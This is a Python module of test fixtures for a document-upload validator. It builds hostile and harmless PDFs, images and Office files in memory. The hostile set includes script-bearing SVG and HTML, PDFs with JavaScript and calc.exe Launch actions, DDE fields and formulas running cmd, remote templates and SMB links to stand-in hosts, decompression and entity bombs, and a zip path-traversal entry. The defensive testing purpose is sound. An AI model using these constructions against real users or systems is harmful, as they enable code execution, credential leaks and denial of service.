"""Files people send, well-meant and hostile, made in memory."""

import io
import struct
import zipfile
import zlib
from functools import cache, partial

import pillow_heif
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from pokmas.documents.models import Document

Kind = Document.Kind
HTML = b"<html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
KUPANG = {1: "S", 2: (10.0, 10.0, 37.0), 3: "E", 4: (123.0, 36.0, 25.0)}


def upload(name: str, content, declared: str = "") -> SimpleUploadedFile:
    content = content() if callable(content) else content
    return SimpleUploadedFile(name, content, declared or _declared(name))


def _declared(name):
    return {
        "pdf": Kind.PDF,
        "jpg": Kind.JPEG,
        "jpeg": Kind.JPEG,
        "png": Kind.PNG,
        "xlsx": Kind.XLSX,
        "docx": Kind.DOCX,
    }.get(name.rpartition(".")[2].lower(), "application/octet-stream")


# Images


def jpeg(size=(800, 600), *, orientation=None, gps=False, comment=b"", noisy=False):
    image = Image.effect_noise(size, 90) if noisy else Image.new("RGB", size, "teal")
    image = image.convert("RGB")
    image.paste((255, 0, 0), (0, 0, size[0] // 4, size[1] // 4))
    exif = Image.Exif()
    exif[0x010F] = "Kamera Uji"
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = KUPANG
    output = io.BytesIO()
    image.save(output, "JPEG", exif=exif, comment=comment, quality=90)
    return output.getvalue()


def heic(size=(800, 600), *, orientation=1, gps=False):
    """As an iPhone makes them."""
    image = Image.new("RGB", size, "teal")
    image.paste((255, 0, 0), (0, 0, size[0] // 4, size[1] // 4))
    exif = Image.Exif()
    exif[0x010F] = "Kamera Uji"
    exif[0x0112] = orientation
    if gps:
        exif[0x8825] = KUPANG
    output = io.BytesIO()
    pillow_heif.register_heif_opener()
    image.save(output, "HEIF", exif=exif.tobytes(), quality=80)
    return output.getvalue()


def webp(size=(800, 600), *, mode="RGB", gps=False):
    exif = Image.Exif()
    exif[0x010F] = "Kamera Uji"
    if gps:
        exif[0x8825] = KUPANG
    output = io.BytesIO()
    Image.new(mode, size, "teal").save(output, "WEBP", exif=exif.tobytes())
    return output.getvalue()


def heic_bomb():
    """Says to be of 40,000 pixels each way: the size in its properties is a lie."""
    content = heic()
    size = struct.pack("!LL", 800, 600)
    assert size in content
    return content.replace(size, struct.pack("!LL", 40_000, 40_000))


def png(size=(800, 600), *, mode="RGB", text=False):
    image = Image.new(mode, size)
    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Location", "-10.177, 123.607")
        info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPSLatitude</x:xmpmeta>")
    output = io.BytesIO()
    exif = Image.Exif()
    if text:
        exif[0x8825] = KUPANG
    image.save(output, "PNG", pnginfo=info, exif=exif)
    return output.getvalue()


def png_bomb(width, height):
    """A PNG of a few hundred kilobytes that claims, and has, all those pixels."""

    def chunk(kind, data):
        check = zlib.crc32(kind + data)
        return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", check)

    packer = zlib.compressobj(9)
    row = b"\0" * (1 + width // 8)
    data = packer.compress(row * min(height, 4000)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack("!LLBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


def exif_bomb():
    """A JPEG whose EXIF is full of offsets that lead nowhere and everywhere."""
    plain = jpeg()
    entries = struct.pack("<HHLL", 0x8769, 4, 1, 8) * 4000
    ifd = b"II*\0" + struct.pack("<L", 8) + struct.pack("<H", 4000) + entries
    body = (b"Exif\0\0" + ifd + struct.pack("<L", 8))[:65000]
    segment = b"\xff\xe1" + struct.pack("!H", len(body) + 2) + body
    return plain[:2] + segment * 20 + plain[2:]


# PDF


def pdf(pages=1, *, change=None, password=None):
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(595, 842)
    if change:
        change(writer)
    if password is not None:
        writer.encrypt(password)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def pdf_of_words(words, pages=1):
    """Every page shows the same text, one stream for all of them."""

    def fill(writer):
        shown = "\n".join(f"({word}) Tj 0 -14 Td" for word in words)
        stream = DecodedStreamObject()
        stream.set_data(f"BT /F1 12 Tf 72 700 Td {shown} ET".encode())
        text = writer._add_object(stream.flate_encode())
        font = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
        fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
        for page in writer.pages:
            page[NameObject("/Contents")] = text
            page[NameObject("/Resources")] = DictionaryObject(
                {NameObject("/Font"): fonts}
            )

    return pdf(pages, change=fill)


def pdf_of_endless_text():
    return pdf_of_words(["A"] * 300_000, pages=50)


def _action(kind, **more):
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind)}
        | {NameObject(f"/{name}"): value for name, value in more.items()}
    )


def with_javascript(writer):
    script = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    names = ArrayObject([TextStringObject("a"), writer._add_object(script)])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )


def with_page_script(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.alert(1)"))}
    )


def with_launch(writer):
    writer.root_object[NameObject("/OpenAction")] = _action(
        "/Launch", F=TextStringObject("calc.exe")
    )


def with_attachment(writer):
    writer.add_attachment("data.exe", b"MZ")


def with_form_sent(writer):
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Widget"),
                    NameObject("/A"): _action(
                        "/SubmitForm", F=TextStringObject("http://contoh.test/")
                    ),
                }
            )
        ]
    )


def with_link(where, *, kind="/URI", **more):
    """A page with a link that leads there when somebody presses it."""

    def add(writer):
        place = {"/URI": "URI"}.get(kind, "F")
        action = _action(kind, **{place: TextStringObject(where)}, **more)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([_link(action)])

    return add


def _link(action):
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
            NameObject("/A"): action,
        }
    )


def opening(kind, after=None, **more):
    """A file that does it as soon as it is opened, at once or `after` something."""

    def add(writer):
        action = _action(kind, **more)
        if after:
            action = _action(after, Next=writer._add_object(action))
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return add


def with_page_action(kind, **more):
    def add(writer):
        opened = DictionaryObject({NameObject("/O"): _action(kind, **more)})
        writer.pages[0][NameObject("/AA")] = writer._add_object(opened)

    return add


def with_annotation(subtype):
    def add(writer):
        annotation = _link(_action("/GoTo"))
        annotation[NameObject("/Subtype")] = NameObject(subtype)
        writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])

    return add


def with_stream_from(where):
    """A picture whose pixels lie in another file."""

    def add(writer):
        stream = DecodedStreamObject()
        stream[NameObject("/F")] = TextStringObject(where)
        writer.root_object[NameObject("/Odd")] = writer._add_object(stream)

    return add


def with_signature(writer):
    """A field signed with a certificate, its seal left out."""
    seal = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Sig"),
            NameObject("/SubFilter"): NameObject("/adbe.pkcs7.detached"),
            NameObject("/ByteRange"): ArrayObject([NumberObject(0)] * 4),
        }
    )
    field = _link(_action("/GoTo"))
    field[NameObject("/FT")] = NameObject("/Sig")
    field[NameObject("/V")] = writer._add_object(seal)
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([writer._add_object(field)])}
    )


def with_reader_rights(writer):
    rights = DictionaryObject({NameObject("/Type"): NameObject("/Sig")})
    writer.root_object[NameObject("/Perms")] = DictionaryObject(
        {NameObject("/UR3"): writer._add_object(rights)}
    )


def with_fonts_called(*names):
    """Resources may have any name, also one that stands for an action elsewhere."""

    def add(writer):
        font = DictionaryObject({NameObject("/Type"): NameObject("/Font")})
        fonts = {NameObject(name): writer._add_object(font) for name in names}
        writer.pages[0][NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject(fonts)}
        )

    return add


def both(*changes):
    def add(writer):
        for change in changes:
            change(writer)

    return add


def signed_and_long(pages=51):
    return pdf(pages, change=with_signature)


def pdf_with_packed_script():
    """The script lies in a stream of objects, where no byte of it can be read."""
    packed = zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert(1))>>")
    head = b"8 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
    return pdf_saved_again(
        head % len(packed) + packed + b"\nendstream endobj\n",
    )


def pdf_saved_again(addition=b"9 0 obj <</S/Launch/F(calc.exe)>> endobj\n"):
    """A revision behind the first one; its table lists nothing of what it holds."""
    first = pdf()
    start = int(first.rpartition(b"startxref")[2].split()[0])
    return (
        first
        + addition
        + b"xref\n0 0\ntrailer <</Size 9 /Root 3 0 R /Prev %d>>\n" % start
        + b"startxref\n%d\n%%%%EOF\n" % (len(first) + len(addition))
    )


@cache
def owner_locked(change=None):
    """Opens freely; changing or copying it needs a password."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf(change=change)))
    writer.encrypt("", "rahasia", algorithm="AES-256")
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def with_xfa(writer):
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/XFA"): ArrayObject([NumberObject(1)])}
    )


def pdf_with_hidden_name(name=b"/J#61va#53cript"):
    """The forbidden name written in another way."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
        b"4 0 obj<</S " + name + b" /J#53 (app.alert(1))>>endobj\n"
        b"trailer<</Root 1 0 R/Size 5>>\nstartxref\n0\n%%EOF\n"
    )


# XLSX and DOCX

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="{part}" ContentType="{type}"/></Types>'
)
SHEET_TYPE = f"{Kind.XLSX.value}.main+xml"
TEXT_TYPE = f"{Kind.DOCX.value}.main+xml"
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships">{}</Relationships>'
)


def office(
    extra=None,
    *,
    content_type=SHEET_TYPE,
    part="/xl/workbook.xml",
    comment=b"",
    compression=zipfile.ZIP_DEFLATED,
):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression) as archive:
        types = TYPES.format(part=part, type=content_type)
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", RELATIONS.format(""))
        archive.writestr(part.lstrip("/"), '<?xml version="1.0"?><root/>')
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
        archive.comment = comment
    return output.getvalue()


def docx(extra=None):
    return office(extra, content_type=TEXT_TYPE, part="/word/document.xml")


def typed(content_type, part="/word/a.dat", main=TEXT_TYPE):
    """A text with a part of that type, whatever it is called."""
    types = TYPES.format(part="/word/document.xml", type=main)
    more = f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'
    return packed({"[Content_Types].xml": types.replace("</Types>", more)})


def packed(parts):
    """An archive of just these parts."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return output.getvalue()


def with_field(*pieces):
    """A text with a field whose words Word has cut into pieces."""
    words = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    body = f'<w:p xmlns:w="urn:w">{begin}{words}{end}</w:p>'
    return docx({"word/header1.xml": body})


def relation(kind, target, mode="External"):
    return RELATIONS.format(
        f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )


def zip_bomb():
    return office({"xl/worksheets/sheet1.xml": b"<a>" + b" " * 100_000_000})


def lying_bomb():
    """An entry that says it is small; what comes out is not."""
    content = bytearray(
        office({"xl/worksheets/sheet1.xml": b"<a>" + b" " * 40_000_000})
    )
    for magic, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = 0
        while (place := content.find(magic, place)) >= 0:
            size = struct.unpack_from("<L", content, place + offset)[0]
            if size > 1_000_000:
                struct.pack_into("<L", content, place + offset, 900)
            place += 4
    return bytes(content)


# what → (file name, content or what makes it, declared type, why it is refused)
HOSTILE = {
    "nothing in it": ("a.pdf", b"", "", "empty"),
    "a web page named as photo": ("a.jpg", HTML, "", "mismatch"),
    "a web page declared as one": ("a.jpg", HTML, "text/html", "mismatch"),
    "a drawing with a script": ("a.svg", SVG, "image/svg+xml", "kind"),
    "a drawing named as photo": ("a.png", SVG, "", "mismatch"),
    "a GIF with a script": ("a.gif", b"GIF89a<script>", "image/gif", "kind"),
    "a GIF named as photo": ("a.png", b"GIF89a<script>", "", "disguised"),
    "a program": ("a.exe", b"MZ\x90", "", "kind"),
    "a program named as PDF": ("a.pdf", b"MZ\x90\0" * 9, "", "disguised"),
    "a program before the PDF": ("a.pdf", b"MZ\x90\0" + pdf(), "", "disguised"),
    "an archive": (
        "a.zip",
        packed({"a.txt": "a"}),
        "application/zip",
        "not_office",
    ),
    "a page before the PDF": ("a.pdf", HTML + pdf(), "", "two_kinds"),
    "a page in the PDF's head": (
        "a.pdf",
        pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n" + HTML + b"\n", 1),
        "",
        "two_kinds",
    ),
    "an archive behind the PDF": ("a.pdf", pdf() + office(), "", "two_kinds"),
    "an archive in the PDF": (
        "a.pdf",
        pdf().replace(b"%%EOF", b"%" + office() + b"\n%%EOF"),
        "",
        "two_kinds",
    ),
    "half a PDF": ("a.pdf", pdf(5)[:-200], "", "torn"),
    "an empty PDF": ("a.pdf", b"%PDF-1.4\n%%EOF\n", "", "broken"),
    "a PDF with script": ("a.pdf", pdf(change=with_javascript), "", "script"),
    "a page with script": ("a.pdf", pdf(change=with_page_script), "", "script"),
    "a script in disguise": ("a.pdf", pdf_with_hidden_name(), "", "script"),
    "a PDF that starts programs": ("a.pdf", pdf(change=with_launch), "", "launch"),
    "a PDF that sends forms": ("a.pdf", pdf(change=with_form_sent), "", "launch"),
    "a PDF with files inside": ("a.pdf", pdf(change=with_attachment), "", "attachment"),
    "a PDF with an XFA form": ("a.pdf", pdf(change=with_xfa), "", "script"),
    "a locked PDF": ("a.pdf", pdf(password="rahasia"), "", "encrypted"),
    "a locked PDF with script": (
        "a.pdf",
        partial(owner_locked, with_javascript),
        "",
        "script",
    ),
    "a script in a stream of objects": ("a.pdf", pdf_with_packed_script, "", "script"),
    "a program in a later revision": ("a.pdf", pdf_saved_again, "", "launch"),
    "a program after something harmless": (
        "a.pdf",
        pdf(change=opening("/Launch", after="/Named", F=TextStringObject("a.exe"))),
        "",
        "launch",
    ),
    "a file that opens a page of the web": (
        "a.pdf",
        pdf(change=opening("/URI", URI=TextStringObject("https://contoh.test"))),
        "",
        "launch",
    ),
    "a page that opens one": (
        "a.pdf",
        pdf(
            change=with_page_action("/URI", URI=TextStringObject("https://contoh.test"))
        ),
        "",
        "launch",
    ),
    "a file that opens one later": (
        "a.pdf",
        pdf(
            change=opening(
                "/URI", after="/Named", URI=TextStringObject("https://contoh.test")
            )
        ),
        "",
        "launch",
    ),
    **{
        f"a link to {where}": ("a.pdf", pdf(change=with_link(where)), "", "reach")
        for where in (
            "file:///C:/Windows/a.exe",
            "\\\\10.0.0.9\\a",
            "%5c%5c10.0.0.9%5ca",
            " \tFILE:///etc/passwd",
            "smb://10.0.0.9/a",
            "javascript:alert(1)",
        )
    },
    "a leap into a file on the network": (
        "a.pdf",
        pdf(change=with_link("\\\\10.0.0.9\\a.pdf", kind="/GoToR")),
        "",
        "reach",
    ),
    "a leap into a file of another address": (
        "a.pdf",
        pdf(change=with_link("http://contoh.test/a.pdf", kind="/GoToR")),
        "",
        "reach",
    ),
    "a picture from the network": (
        "a.pdf",
        pdf(change=with_stream_from("//10.0.0.9/a.jpg")),
        "",
        "reach",
    ),
    "a film that plays": (
        "a.pdf",
        pdf(change=opening("/Rendition", OP=NumberObject(0))),
        "",
        "launch",
    ),
    "data that are fetched": (
        "a.pdf",
        pdf(change=with_link("a.fdf", kind="/ImportData")),
        "",
        "launch",
    ),
    **{
        f"a page with {subtype[1:]}": (
            "a.pdf",
            pdf(change=with_annotation(subtype)),
            "",
            "media",
        )
        for subtype in ("/Movie", "/Sound", "/RichMedia", "/3D")
    },
    "51 pages": ("a.pdf", pdf(51), "", "pages"),
    "half a photo": ("a.jpg", jpeg(noisy=True)[:9000], "", "broken"),
    "half a PNG": ("a.png", png(mode="RGBA")[:-40], "", "broken"),
    "only the head of a photo": (
        "a.jpg",
        b"\xff\xd8\xff\xe0" + b"\0" * 99,
        "",
        "broken",
    ),
    "60,000 pixels each way": (
        "a.png",
        partial(png_bomb, 60_000, 60_000),
        "",
        "pixels",
    ),
    "10,000 pixels each way": (
        "a.png",
        partial(png_bomb, 10_000, 10_000),
        "",
        "pixels",
    ),
    "40,000 pixels in a photo of a phone": ("a.heic", heic_bomb, "", "pixels"),
    "half a photo of a phone": (
        "a.heic",
        lambda: heic()[:-300],
        "",
        "broken",
    ),
    "a bomb of a spreadsheet": ("a.xlsx", zip_bomb, "", "bomb"),
    "a bomb that lies": ("a.xlsx", lying_bomb, "", "broken"),
    "entities that multiply": (
        "a.xlsx",
        office({"xl/a.xml": '<!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'}),
        "",
        "bomb",
    ),
    "a spreadsheet with macros": (
        "a.xlsx",
        office({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "",
        "macro",
    ),
    "a macro type": (
        "a.xlsx",
        office(content_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "",
        "macro",
    ),
    "a program in a text": ("a.docx", docx({"word/a.exe": b"MZ"}), "", "macro"),
    "an object in a text": (
        "a.docx",
        docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
        "",
        "attachment",
    ),
    "a template from elsewhere": (
        "a.docx",
        docx(
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "http://contoh.test/a.dotm"
                )
            }
        ),
        "",
        "external",
    ),
    "a template in other letters": (
        "a.docx",
        docx(
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "http://contoh.test/a.dotm", "eXTERNAL"
                )
            }
        ),
        "",
        "external",
    ),
    "a link to the network": (
        "a.xlsx",
        office({"xl/_rels/a.xml.rels": relation("hyperlink", "\\\\10.0.0.9\\a")}),
        "",
        "external",
    ),
    "macros by another name": (
        "a.docx",
        typed("application/vnd.ms-office.vbaProject"),
        "",
        "macro",
    ),
    "macros by relation alone": (
        "a.docx",
        docx({"word/_rels/a.rels": relation("vbaProject", "gambar.png", "Internal")}),
        "",
        "macro",
    ),
    "a macro type written otherwise": (
        "a.docx",
        typed("application/vnd.ms-word.document.&#109;acroEnabled.main+xml"),
        "",
        "macro",
    ),
    "an object by another name": (
        "a.docx",
        docx({"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1"}),
        "",
        "attachment",
    ),
    "a program by another name": (
        "a.docx",
        docx({"word/media/image1.png": b"MZ\x90"}),
        "",
        "macro",
    ),
    "another text inside": (
        "a.docx",
        docx({"word/a.xml": '<w:altChunk xmlns:w="urn:w"/>'}),
        "",
        "attachment",
    ),
    "another text by relation": (
        "a.docx",
        docx({"word/_rels/a.rels": relation("aFChunk", "a.html", "Internal")}),
        "",
        "attachment",
    ),
    "a field that starts programs": (
        "a.docx",
        with_field(" DD", "EAUTO ", r"c:\\windows\\cmd.exe"),
        "",
        "external",
    ),
    "a short field that starts programs": (
        "a.docx",
        docx({"word/a.xml": '<w:fldSimple xmlns:w="urn:w" w:instr=" dde a b"/>'}),
        "",
        "external",
    ),
    "a field that asks a database": (
        "a.docx",
        with_field(" DATABASE ", r"\d C:\a.mdb"),
        "",
        "external",
    ),
    "a picture from the web": (
        "a.docx",
        docx(
            {
                "word/_rels/document.xml.rels": relation(
                    "image", "https://contoh.test/a.png"
                )
            }
        ),
        "",
        "external",
    ),
    "a sheet that starts programs": (
        "a.xlsx",
        office({"xl/a.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}),
        "",
        "external",
    ),
    "a formula that starts programs": (
        "a.xlsx",
        office({"xl/a.xml": "<c><f>cmd|'/c calc'!A0</f></c>"}),
        "",
        "external",
    ),
    "a question to the web": (
        "a.xlsx",
        office(
            {"xl/a.xml": '<connection><webPr url="http://contoh.test"/></connection>'}
        ),
        "",
        "external",
    ),
    "connections by type": (
        "a.xlsx",
        typed(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
            main=SHEET_TYPE,
        ),
        "",
        "external",
    ),
    "an archive named as spreadsheet": (
        "a.xlsx",
        office(content_type="text/xml"),
        "",
        "not_office",
    ),
    "a spreadsheet with a tail": ("a.xlsx", office() + HTML, "", "torn"),
    "a spreadsheet with a comment": ("a.xlsx", office(comment=HTML), "", "torn"),
    "a page before the spreadsheet": ("a.xlsx", HTML + office(), "", "mismatch"),
    "a way out of the folder": (
        "a.xlsx",
        office({"../../etc/cron.d/a": b"x"}),
        "",
        "broken",
    ),
    "half a spreadsheet": ("a.xlsx", office({"xl/a.xml": "<a/>"})[:-60], "", "torn"),
    "a torn part": ("a.xlsx", office({"xl/a.xml": "<a><b></a>"}), "", "broken"),
}

HARMLESS = {
    "a scan": ("naskah.pdf", pdf(3), ""),
    "50 pages": ("naskah.PDF", pdf(50), ""),
    "a PDF locked against editing": ("naskah.pdf", owner_locked, ""),
    "a PDF that opens with an empty password": ("naskah.pdf", pdf(password=""), ""),
    "a signed PDF": ("naskah.pdf", pdf(change=with_signature), ""),
    "a PDF with rights for readers": ("a.pdf", pdf(change=with_reader_rights), ""),
    "a PDF with links": ("a.pdf", pdf(change=with_link("https://contoh.test/a")), ""),
    "a link to a page about programs": (
        "a.pdf",
        pdf(change=with_link("https://contoh.test/JavaScript/Launch/EmbeddedFile")),
        "",
    ),
    "a link into a file beside it": (
        "a.pdf",
        pdf(change=with_link("lampiran.pdf", kind="/GoToR")),
        "",
    ),
    "fonts with odd names": (
        "a.pdf",
        pdf(change=with_fonts_called("/JS", "/EF", "/AA", "/Launch", "/XFA")),
        "",
    ),
    "a PDF with comments": (
        "a.pdf",
        pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n% /JavaScript /Launch 1 0 obj\n", 1),
        "",
    ),
    "a PDF with a rich comment": (
        "a.pdf",
        pdf().replace(
            b"%PDF-1.3\n",
            b"%PDF-1.3\n9 0 obj <</RC(<body><p>Setuju</p></body>)>> endobj\n",
            1,
        ),
        "",
    ),
    "bytes before a PDF": ("a.pdf", b"\r\n\0\xef\xbb\xbf" * 50 + pdf(3), ""),
    "padding after a PDF": ("a.pdf", pdf(3) + b"\0" * 9000, ""),
    "a PDF of an office suite": ("a.pdf", pdf(), "application/wps-office.pdf"),
    "a PDF declared as text": ("a.pdf", pdf(), "text/pdf"),
    "a PDF without an ending": ("berkas", pdf(), "application/pdf"),
    "a PDF with two endings": ("a.pdf.exe", pdf(), "application/pdf"),
    "a PDF named as photo": ("a.jpg", pdf(), ""),
    "a photo named as PDF": ("a.pdf", jpeg(), ""),
    "a photo declared as page": ("a.jpg", jpeg(), "text/html"),
    "a photo declared as any": ("a.png", jpeg(), "image/*"),
    "a photo with a blank behind its name": ("foto.jpg ", jpeg(), ""),
    "a text named as spreadsheet": ("a.xlsx", docx(), ""),
    "a spreadsheet named as archive": ("a.zip", office(), "application/zip"),
    "a text with fields": (
        "surat.docx",
        with_field(" HYPERLINK ", '"https://contoh.test/dde/link" '),
        "",
    ),
    "a sheet with formulas": (
        "a.xlsx",
        office({"xl/a.xml": "<c><f>IF(A1=\"a|b\",'Link DDE'!A1,0)</f></c>"}),
        "",
    ),
    "a drawing of Excel": ("a.xlsx", office({"xl/a.vml": "<xml><br></xml>"}), ""),
    "a photo": ("foto.jpg", jpeg(), ""),
    "a photo from a phone": ("foto.jpeg", jpeg(gps=True, orientation=6), ""),
    "a photo the browser knows nothing of": (
        "foto.jpg",
        jpeg(),
        "application/octet-stream",
    ),
    "a photo with broken EXIF": ("foto.jpg", exif_bomb(), ""),
    "a photo with a page behind it": ("foto.jpg", jpeg() + HTML, ""),
    "a photo with a page in its comment": ("foto.jpg", jpeg(comment=HTML), ""),
    "a photo of an iPhone": ("IMG_1.HEIC", heic, "image/heic"),
    "a photo of an iPhone called otherwise": ("foto.jpg", heic, ""),
    "a photo from a chat": ("foto.webp", webp, "image/webp"),
    "a sticker": ("foto.webp", partial(webp, mode="RGBA"), ""),
    "a drawing": ("gambar.png", png(), ""),
    "a transparent drawing": ("gambar.png", png(mode="RGBA"), ""),
    "a drawing of few colours": ("gambar.png", png(mode="P"), ""),
    "a drawing of grey": ("gambar.png", png(mode="I;16"), ""),
    "a spreadsheet": ("daftar.xlsx", office(), ""),
    "a spreadsheet with links": (
        "daftar.xlsx",
        office({"xl/_rels/a.xml.rels": relation("hyperlink", "https://contoh.test")}),
        "",
    ),
    "a text": ("surat.docx", docx(), "application/zip"),
}
